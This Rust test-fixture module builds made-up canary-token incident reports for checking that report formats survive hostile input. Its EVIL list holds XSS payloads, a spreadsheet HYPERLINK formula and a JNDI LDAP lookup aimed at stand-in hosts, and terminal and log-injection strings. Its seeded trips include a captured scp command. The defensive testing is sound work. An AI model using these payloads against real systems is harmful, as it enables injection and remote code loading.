//! Reports that formats are tried on, written as JSON so that they say only what they are about: a
//! plain one, floods, drills, an exercise, hostile text, and one full of third parties' values. Shared with
//! the end-to-end tests, which show them to validators.

#![allow(dead_code, reason = "each of its users uses some of it")]

use lapwing_core::Language;
use lapwing_core::phrase::verdict;
use lapwing_report::Report;
use serde_json::{Map, Value, json};

/// 2026-09-21T14:13:20Z, in microseconds.
const START: i64 = 1_790_000_000_000_000;

/// Text that means something to a shell, a page, a spreadsheet, a log line, a terminal or a parser.
pub(crate) const EVIL: [&str; 10] = [
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://bait.example/x\",\"a\")",
    "[x](javascript:alert(1)) | `code` ![](https://cb.example/i.png) ```",
    "\u{1b}]0;title\u{7}\u{202e}gpj.exe\r\n# heading\nCEF:0|a|b|c|d|e|9|src=1.2.3.4",
    "@everyone \"><img src=x onerror=\"alert(1)\">",
    "+1\t-1\u{0} a=b\\ c|d rt=0 cs1=x",
    "'] OR [ipv4-addr:value = '0.0.0.0",
    "\u{feff}\u{2066}\u{200b}\u{fffd}\u{e000}\u{10ffff} \"}],\"type\":\"x",
    "127.0.0.1\n8.8.8.8\n# 9.9.9.9",
    "%n%s{{7*7}}${jndi:ldap://cb.example/a}&#x41;&lt;",
];

/// Every report and what it is about.
pub(crate) fn all() -> Vec<(&'static str, Report)> {
    vec![
        ("empty", report(Vec::new())),
        ("plain", plain()),
        ("flood", flood()),
        ("drills", drills()),
        ("exercise", exercise()),
        ("concluded", concluded()),
        ("hostile", hostile()),
        ("long", long()),
        ("seeded", seeded().0),
    ]
}

/// A report over these trips.
pub(crate) fn report(trips: Vec<Value>) -> Report {
    let incidents: Vec<Value> = trips.first().map(incident).into_iter().collect();
    read(json!({
        "generated": START + 90_000_000_000_i64,
        "station": "0a1b2c3d",
        "range": [null, null],
        "exercise": false,
        "operator": "Example relay collective",
        "contact": "abuse@relay.example",
        "canaries": [canary(1, "twilio", "Twilio account"), canary(2, "url", "Web address")],
        "trips": trips,
        "incidents": incidents,
        "actors": [],
        "integrity": {
            "verified": true,
            "records": 9,
            "checkpoint": "station-0a1b2c3d\n9\nAAAA\n\n— station-0a1b2c3d BBBB\n",
            "public_key": "station-0a1b2c3d+exercise",
            "message": "",
        },
        "sources": ["Made-up data, CC BY 4.0"],
    }))
}

fn read(value: Value) -> Report {
    serde_json::from_value(value).expect("a report written here")
}

fn id(number: u64) -> String {
    format!("0a1b2c3d-{number}")
}

fn canary_id(number: u8) -> String {
    format!("019a2b{number:02x}-0506-7f08-8a0a-0b0c0d0e0f{number:02x}")
}

fn canary(number: u8, kind: &str, name: &str) -> Value {
    json!({
        "canary_id": canary_id(number),
        "kind": kind,
        "kind_name": name,
        "kind_names": { "es": if kind == "twilio" { "Cuenta de Twilio" } else { "Enlace" } },
        "title": format!("Key {number}"),
        "labels": { "host": "web-1", "team": "edge" },
        "place": format!("/srv/app{number}/.env"),
        "planted": START - 1_000_000_000,
        "last_checked": START - 10_000_000,
        "minted": START - 1_001_000_000,
        "retired": null,
        "attack": ["T1552.001", "T1078"],
    })
}

fn incident(trip: &Value) -> Value {
    json!({
        "id": format!("i{}", trip["trip"]["id"].as_str().expect("an id")),
        "canary": canary_id(1),
        "actor": "a0a1b2c3d-1",
        "verdict": "intruder",
        "first": START,
        "last": START + 60_000_000,
        "count": 3,
        "latest": id(1),
        "state": "open",
        "untold": "nothing",
    })
}

/// A use of the first canary from this socket: texts ordered at a gateway.
pub(crate) fn trip(number: u64, source: &str) -> Value {
    let at = START + i64::try_from(number).expect("few") * 7_000_123;
    json!({
        "trip": {
            "id": id(number),
            "canary": canary_id(1),
            "kind": "twilio",
            "fields": [{ "carrier": "basic", "field": "auth_token" }],
            "observed": {
                "fingerprint": "0123456789abcdef",
                "listener": "http",
                "local": "198.51.100.80:8080",
                "peer": source,
                "protocol": "http/1.1",
                "signals": {
                    "ja3": "d6828e30ab66774a91a96ae93be4ae4c",
                    "ja4": "t13d3112h2_e8f1e7e78f70_b26ce05bbdd6",
                },
                "size": 300,
                "time": at,
                "truncated": false,
            },
            "claims": {
                "method": "POST",
                "target": "/2010-04-01/Accounts/AC0/Messages.json?a=1&b=2",
                "host": "gateway.bait.example",
                "agent": "python-requests/2.32.3",
                "captured": { "sms.to": ["+12025550142"], "sms.body": ["Hello there"] },
            },
            "decoy": {
                "kind": "twilio",
                "outcome": "accepted",
                "rule": "POST /2010-04-01/Accounts/{account_sid}/Messages.json",
                "status": 201,
            },
            "count": 1,
        },
        "conclusion": {
            "trip": id(number),
            "network": {
                "country": "NL",
                "asn": 64_500,
                "as_name": "Example Hosting B.V.",
                "sources": ["DB 2026-06-01"],
            },
            "judgement": { "verdict": "intruder", "reasons": [verdict::VALUE_SENT.en, verdict::VALUE_SURE.en], "rules": 1 },
            "incident": "i0a1b2c3d-1",
            "actor": "a0a1b2c3d-1",
            "evidence": [],
        },
        "raw": &b"POST / HTTP/1.1\r\nHost: gateway.bait.example\r\n\r\n\xff\x00\x1b[31m"[..],
    })
}

fn judged(mut trip: Value, verdict: &str) -> Value {
    trip["conclusion"]["judgement"]["verdict"] = json!(verdict);
    let reason = match verdict {
        "own" => verdict::OWN_NETWORK,
        "drill" => verdict::DRILL_NONCE,
        "echo" => verdict::ECHO_NO_USE,
        "preview" => verdict::ONLY_ITS_WORD,
        _ => verdict::ONLY_ITS_WORD_SURE,
    };
    trip["conclusion"]["judgement"]["reasons"] = json!([reason.en]);
    trip
}

/// The second canary's address opened: no credential.
fn opened(number: u64, source: &str) -> Value {
    let mut one = trip(number, source);
    one["trip"]["canary"] = json!(canary_id(2));
    one["trip"]["kind"] = json!("url");
    one["trip"]["fields"] = json!([{ "carrier": "path", "field": "beacon.segment" }]);
    one["trip"]["decoy"] =
        json!({ "kind": "url", "outcome": "persona", "rule": "", "status": 200 });
    one["trip"]["claims"]["captured"] = json!({});
    one["conclusion"]["actor"] = json!("a0a1b2c3d-3");
    one
}

/// Every verdict; both families; an unknown port; a resolver; a private and a shared network; a place to a point.
pub(crate) fn plain() -> Report {
    let mut placed = trip(1, "203.0.113.77:50412");
    for (name, value) in [
        ("city", json!("Zaltbommel")),
        ("coordinates", json!([51_812_345, 5_245_678])),
        ("radius_km", json!(50)),
    ] {
        placed["conclusion"]["network"][name] = value;
    }
    let mut shared = trip(3, "203.0.114.9:50111");
    shared["conclusion"]["network"]["lists"] = json!([{ "class": "vpn", "name": "Example VPN" }]);
    let mut told = trip(4, "192.0.2.1:4444");
    told["trip"]["observed"]["forwarded"] = json!("203.0.115.7:0");
    told["trip"]["observed"]["observer"] = json!("billing app");
    let mut resolver = opened(6, "203.0.116.53:53");
    resolver["trip"]["observed"]["listener"] = json!("dns");
    resolver["trip"]["observed"]["protocol"] = json!("dns/udp");
    let mut private = trip(7, "10.0.0.7:40000");
    private["conclusion"]["network"] = json!({ "special": "private" });
    let mut database = trip(13, "203.0.113.78:50999");
    database["trip"]["observed"]["listener"] = json!("postgres");
    database["trip"]["observed"]["protocol"] = json!("postgresql/3.0");
    database["trip"]["fields"] = json!([{ "carrier": "password", "field": "password" }]);
    let tunnel = {
        let mut one = trip(14, "203.0.113.77:51820");
        one["trip"]["observed"]["listener"] = json!("wireguard");
        one["trip"]["observed"]["protocol"] = json!("wireguard/1");
        one["trip"]["fields"] = json!([{ "carrier": "key", "field": "public_key" }]);
        one
    };
    report(vec![
        placed,
        trip(2, "203.0.113.77:50413"),
        shared,
        told,
        opened(5, "[2001:db8:77:1::9]:42100"),
        resolver,
        private,
        judged(trip(8, "203.0.117.8:1"), "automated"),
        judged(trip(9, "203.0.117.9:2"), "preview"),
        judged(trip(10, "203.0.117.10:3"), "echo"),
        judged(trip(11, "203.0.117.11:4"), "own"),
        judged(trip(12, "203.0.117.12:5"), "drill"),
        database,
        tunnel,
    ])
}

/// A summary record of thousands of uses, without claims or raw bytes.
pub(crate) fn flood() -> Report {
    let mut many = trip(2, "203.0.113.77:50413");
    many["trip"]["count"] = json!(4_980);
    many["trip"]["times"] = json!([START + 60_000_000, START + 5_460_000_000_i64]);
    many["trip"]["claims"] = Value::Null;
    many["raw"] = Value::Null;
    let mut all = vec![trip(1, "203.0.113.77:50412"), many];
    all.extend((3..120).map(|number| trip(number, "203.0.113.78:50999")));
    report(all)
}

/// Nothing that anyone outside did.
pub(crate) fn drills() -> Report {
    report(vec![
        judged(trip(1, "203.0.113.77:50412"), "drill"),
        judged(trip(2, "203.0.113.78:50413"), "own"),
    ])
}

/// The plain report, staged.
pub(crate) fn exercise() -> Report {
    let mut staged = plain();
    staged.exercise = true;
    staged
}

/// The plain report with all that other parts conclude in words: reasons of every sort, networks and what they are
/// listed as, programs, links and what else could explain them, decisions, erasures, an incident's handling.
pub(crate) fn concluded() -> Report {
    let mut all = plain();
    for (one, phrases) in all.trips.iter_mut().zip(PHRASES) {
        let reasons = phrases.iter().map(|text| (*text).to_owned());
        one.conclusion.judgement.reasons = reasons.collect();
        let reason = "What was seen contradicts what it says: the name is probably borrowed. Confidence is moderate: a proxy on the way that ends TLS would show the same.";
        let tool = json!({
            "name": "curl, git or others", "claimed": "headless Chromium", "contradicts": true,
            "reasons": [reason], "rules": 1,
        });
        one.tool = serde_json::from_value(tool).expect("a tool");
    }
    let facts = json!({
        "country": "NL", "asn": 64_500, "as_name": "Example Hosting B.V.", "sources": ["DB 2026-06-01"],
        "lists": [{ "class": "vpn", "name": "a commercial VPN" }, { "class": "cloud", "name": "Microsoft Azure in China" },
            { "class": "resolver", "name": "a public resolver" }],
        "unplaced_because": "a VPN exit or rented machine: its users are anywhere",
        "agreement": { "agree": 2, "of": 3, "others": [{ "country": "DE", "source": "X 2026-01-01" }] },
        "tor_exit": { "was": "yes" },
    });
    all.trips[0].conclusion.network = serde_json::from_value(facts).expect("facts");
    for (one, special) in all.trips[2..]
        .iter_mut()
        .zip(["shared", "tunnel", "loopback"])
    {
        one.conclusion.network.special = Some(special.to_owned());
    }
    let erased = json!({ "parts": ["claims", "raw"], "why": null });
    let erased = serde_json::from_value(erased).expect("an erasure");
    all.erased.insert(all.trips[1].trip.id, erased);
    all.cases = vec![serde_json::from_value(case()).expect("a case")];
    all.integrity.message = "record 5 (00000000000000000000.jsonl, line 3): bad parts".to_owned();
    all.integrity.verified = false;
    all
}

/// What an actor rests on, with evidence of every group.
fn case() -> Value {
    let apart = "5 hours after trip 0a1b2c3d-1";
    let evidence = |signal: &str, group: &str, grade: &str, centibits: i32, detail: String| json!({ "signal": signal, "group": group, "grade": grade, "centibits": centibits, "detail": detail, "to": id(1) });
    let edge = json!({
        "to": id(1), "actor": "a0a1b2c3d-1", "centibits": 412, "taken": true,
        "evidence": [
            evidence("address", "network", "A1", 612, format!("same address 203.0.113.77, {apart}; weak: an exit that hides many")),
            evidence("agent", "program", "E4", 300, format!("same program, perhaps in another version, {apart}; weak: a program that many use as it comes")),
            evidence("canary", "bait", "A1", 210, format!("same bait, {apart}")),
            evidence("machine", "identity", "E4", 210, format!("same name of the client's machine or of its user, {apart}")),
            evidence("payload", "payload", "E4", 110, format!("the same was sent along (recipient, text or statement), {apart}")),
            evidence("language", "locale", "E4", 90, format!("same languages asked for, {apart}")),
            evidence("pace", "pace", "B3", 75, format!("the same or neighbouring bait, {apart}")),
            evidence("forwarded", "claim", "E4", 40, format!("same address said to be forwarded for, {apart}")),
            evidence("ja4", "program", "B3", -110, "not the same TLS handshake (JA4)".to_owned()),
        ],
    });
    json!({
        "actor": "a0a1b2c3d-1", "sessions": 4, "left_out": false, "likelihood": 910, "confidence": "moderate",
        "prior": -500, "links": [[id(3), edge]], "rivals": [],
        "bridges": [{ "from": id(3), "to": id(1), "likelihood": 910, "sides": [2, 2] }],
        "alternatives": [
            "A shared exit: a VPN, relay, carrier or company network puts several people behind one address.",
            "A shared tool: the same program with the same settings in different hands, or one imitated.",
            "Second-hand bait: the values were passed on, sold or published, and several hands use them.",
        ],
        "would_change": [
            "Without the link from session 0a1b2c3d-3 to session 0a1b2c3d-1, the actor falls into two, of 2 and 2 sessions.",
            "The network operator's record of who had the address and port at these times.",
            "The same bait found in anybody else's hands.",
        ],
        "decisions": [
            [START, "ana merged a0a1b2c3d-1, a0a1b2c3d-3: misma tarde"],
            [START, "ana took 2 sessions out of a0a1b2c3d-1: prueba nuestra"],
        ],
    })
}

/// Reasons as the rules give them, those of a trip each.
const PHRASES: [&[&str]; 10] = [
    &[
        verdict::VALUE_SENT.en,
        "The program calls itself a link preview (Slack); that changes nothing, for it cannot have the value unless the bait has leaked.",
        "The address is an exit of a commercial VPN: many people share it.",
    ],
    &[verdict::WRONG_SECRET.en, verdict::IDENTIFIER_SURE.en],
    &[verdict::VALUE_TOLD.en, verdict::FROM_APPLICATION.en],
    &[verdict::BAD_SIGNATURE.en, verdict::FROM_TRANSLATION.en],
    &[
        verdict::OPENED.en,
        "The program calls itself a web browser.",
        verdict::CLIENT_SURE.en,
    ],
    &[
        verdict::LOOKED_UP.en,
        verdict::LOOKED_UP_FOR.en,
        verdict::CLIENT_SUBNET.en,
    ],
    &[verdict::VALUE_RETIRED.en, verdict::FROM_PRIVATE.en],
    &[
        "The address is in AS64500, a network that this service runs in.",
        verdict::OWN_SYSTEM_SURE.en,
    ],
    &[
        "The address is in a network of Microsoft 365 in China, whose mail service looks at links in mail.",
    ],
    &[
        "The same name was looked up 5 hours before, and this resolver had no part in that: resolvers and security vendors repeat what they have seen.",
    ],
];

/// A report in another language.
pub(crate) fn spanish(mut report: Report) -> Report {
    report.language = Language::Es;
    report
}

/// Hostile text in every field that a peer, a database or a careless operator can fill.
pub(crate) fn hostile() -> Report {
    let trips = EVIL.iter().enumerate().map(|(index, text)| {
        let number = index as u64 + 1;
        evil_trip(number, text)
    });
    evil_report(trips.collect(), &EVIL)
}

/// Very long text in the same fields.
pub(crate) fn long() -> Report {
    let long = "é=|\\\u{202e}\"'<x>\r\n".repeat(1_500);
    let texts = [long.as_str(), EVIL[3]];
    evil_report(vec![evil_trip(1, &long)], &texts)
}

fn evil_report(trips: Vec<Value>, texts: &[&str]) -> Report {
    let mut all = report(trips);
    let text = |index: usize| texts[index % texts.len()].to_owned();
    all.operator = text(4);
    all.canaries[0].title = text(2);
    all.canaries[0].place = Some(text(0));
    all.canaries[0].kind_name = text(5);
    all.canaries[0].labels = [(text(1), text(2))].into();
    all.canaries[1].title = text(3);
    all.canaries[1].attack = vec![text(7)];
    all.integrity.message = text(0);
    all.integrity.public_key = text(1);
    all.sources = vec![text(9)];
    all
}

fn evil_trip(number: u64, text: &str) -> Value {
    let mut one = trip(number, &format!("203.0.113.{number}:5000{}", number % 10));
    let texts = json!([text, EVIL[0]]);
    let names = ["sms.to", "sms.body", "sms.from", "sms.callback", text];
    let captured: Map<String, Value> = names
        .iter()
        .map(|name| ((*name).to_owned(), texts.clone()))
        .collect();
    let claims = json!({
        "method": text, "target": text, "host": text, "agent": text,
        "forwarding": [[text, text]], "headers": [[text, text]],
        "captured": captured,
    });
    let trip = &mut one["trip"];
    trip["claims"] = claims;
    trip["kind"] = json!(text);
    trip["fields"][0]["field"] = json!(text);
    trip["decoy"]["rule"] = json!(text);
    trip["observed"]["fingerprint"] = json!(text);
    trip["observed"]["observer"] = Value::Null;
    trip["observed"]["protocol"] = json!(text);
    trip["observed"]["signals"] = json!({ "ja4": text, "ja3": text, "h1": text });
    let network = &mut one["conclusion"]["network"];
    network["country"] = json!(text);
    network["as_name"] = json!(text);
    network["lists"] = json!([{ "class": "vpn", "name": text }]);
    network["sources"] = json!([text]);
    let judgement = &mut one["conclusion"]["judgement"];
    judgement["reasons"] = json!([text]);
    one["conclusion"]["evidence"] =
        json!([{ "signal": text, "detail": text, "to": id(1), "grade": "E4" }]);
    one["raw"] = json!([text.as_bytes(), &b"\xff\xfe\x80\x00"[..]].concat());
    one
}

/// A report full of values of third parties and of the bait, and those values: none may be in what
/// is published.
pub(crate) fn seeded() -> (Report, Vec<String>) {
    let mut seeds = Vec::new();
    let mut trips = Vec::new();
    for number in 1..=12_u64 {
        let values = Values::new(number);
        trips.push(seeded_trip(number, &values));
        seeds.extend(values.all());
    }
    (report(trips), seeds)
}

/// What one trip is seeded with.
struct Values {
    number: String,
    sender: String,
    body: String,
    mail: String,
    token: String,
    host: String,
    address: String,
    forwarded: String,
    port: u64,
}

impl Values {
    /// Drawn by the number, so that a test that fails fails again.
    fn new(number: u64) -> Self {
        let mut state = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
        let mut draw = |below: u64| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) % below
        };
        let mut word = |length: usize| -> String {
            (0..length)
                .map(|_| char::from(b'a' + u8::try_from(draw(26)).expect("a letter")))
                .collect()
        };
        let (words, token, name, host) = ([word(9), word(11)], word(24), word(10), word(12));
        let last = 20 + number * 13;
        Self {
            number: format!("+4479{:08}", 10_000_000 + draw(80_000_000)),
            sender: format!("+4478{:08}", 10_000_000 + draw(80_000_000)),
            body: format!("{} {}", words[0], words[1]),
            mail: format!("{name}@{}.example", &host[..6]),
            token,
            host: format!("{host}.bait.example"),
            address: if number.is_multiple_of(2) {
                format!("203.0.113.{last}")
            } else {
                format!("2001:db8:77:{number:x}::{last:x}")
            },
            forwarded: format!("198.51.100.{last}"),
            port: 50_000 + draw(15_000),
        }
    }

    fn all(self) -> Vec<String> {
        let (first, second) = self.body.split_once(' ').expect("two words");
        let digits = |number: &str| number.trim_start_matches('+').to_owned();
        vec![
            digits(&self.number),
            digits(&self.sender),
            first.to_owned(),
            second.to_owned(),
            self.mail,
            self.token,
            self.host,
            self.address,
            self.forwarded,
            self.port.to_string(),
        ]
    }
}

fn seeded_trip(number: u64, values: &Values) -> Value {
    let Values {
        number: to,
        sender,
        body,
        mail,
        token,
        host,
        address,
        forwarded,
        port,
    } = values;
    let socket = if address.contains(':') {
        format!("[{address}]:{port}")
    } else {
        format!("{address}:{port}")
    };
    let mut one = trip(number, &socket);
    let link = format!("https://{host}/{token}?m={mail}");
    one["trip"]["claims"] = json!({
        "method": "POST",
        "target": format!("/{token}?to={to}&mail={mail}&ip={address}"),
        "host": host,
        "agent": format!("curl/8.14.1 ({mail}; {to}; {token})"),
        "forwarding": [["X-Forwarded-For", format!("{forwarded}, {address}")]],
        "headers": [["Cookie", token], ["X-Mail", mail]],
        "captured": {
            "sms.to": [to, format!("{to};{to}")],
            "sms.from": [sender, mail],
            "sms.body": [body, format!("{body} {link}")],
            "sms.callback": [link],
            "mail.to": [mail],
            "s3.key": [token, format!("{token}/{to}")],
            "ssh.command": [format!("scp {mail}:{token} {address}")],
        },
    });
    let judgement = &mut one["conclusion"]["judgement"];
    let program = format!("{address}, as {mail}, {to}");
    judgement["reasons"] = json!([verdict::CALLS_ITSELF.with(&[("program", &program)])]);
    one["conclusion"]["evidence"] = json!([
        { "signal": "address", "detail": format!("same address {address}"), "to": id(1), "grade": "A1" },
    ]);
    one["raw"] = json!(
        format!("POST /{token} HTTP/1.1\r\nHost: {host}\r\n\r\nTo={to}&Body={body}&m={mail}")
            .into_bytes()
    );
    one
}
